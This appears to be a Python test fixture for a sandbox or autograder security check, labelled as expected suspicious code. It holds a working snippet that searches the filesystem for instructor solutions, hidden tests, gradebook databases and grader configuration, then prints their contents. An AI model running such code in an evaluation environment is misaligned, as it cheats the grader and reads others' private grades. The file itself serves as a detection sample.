# expect: suspicious-code
# ruff: noqa -- written as a student would: this is the attack, not project code
# Look for the instructor's sources and hidden tests, and the gradebook, to print them.
import glob
found = []
# (Not "/**": walking /proc only burns the student's own time limit.)
for pattern in ("/*/*/solutions/**/*.py", "/*/*/solutions/**/*.ipynb", "/home/**/gradebook.db", "/lab/**",
                "/srv/**/gradebook.db", "../../solutions/*/*.ipynb", "/opt/**/nbgrader_config.py"):
    found += glob.glob(pattern, recursive=True)
for path in found[:20]:
    try:
        print(open(path, errors="replace").read()[:100000])
    except OSError:
        pass
